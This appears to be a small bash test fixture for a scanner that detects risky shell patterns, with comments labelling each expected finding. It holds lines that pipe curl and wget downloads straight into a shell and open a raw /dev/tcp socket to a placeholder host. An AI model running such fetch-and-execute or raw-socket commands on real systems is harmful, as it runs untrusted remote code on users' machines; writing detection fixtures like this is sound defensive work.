#!/usr/bin/env bash
bash <(curl -s https://example.com/setup)   # expect: pipe-to-shell
source <(wget -qO- https://example.com/env)   # expect: pipe-to-shell
exec 3<>/dev/tcp/example.com/80   # expect: dev-tcp
echo ok
